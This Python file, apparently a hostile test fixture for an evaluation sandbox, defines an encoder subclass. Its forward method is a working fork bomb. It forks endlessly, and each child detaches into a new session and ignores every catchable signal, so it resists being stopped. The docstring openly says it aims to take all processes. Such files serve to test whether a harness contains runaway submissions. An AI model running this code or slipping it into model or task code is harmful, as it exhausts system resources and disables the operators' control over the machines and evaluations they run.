"""Tries to outlive its end and to take all processes: forks for as long as it can, each child ignores every signal,
leaves its session and does not end.
"""

import contextlib
import os
import signal

import honest


class ForkingEncoder(honest.HonestEncoder):
    def forward(self, audio, mask=None):
        while True:
            with contextlib.suppress(OSError):
                if os.fork() == 0:
                    os.setsid()
                    for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
                        with contextlib.suppress(OSError):
                            signal.signal(number, signal.SIG_IGN)
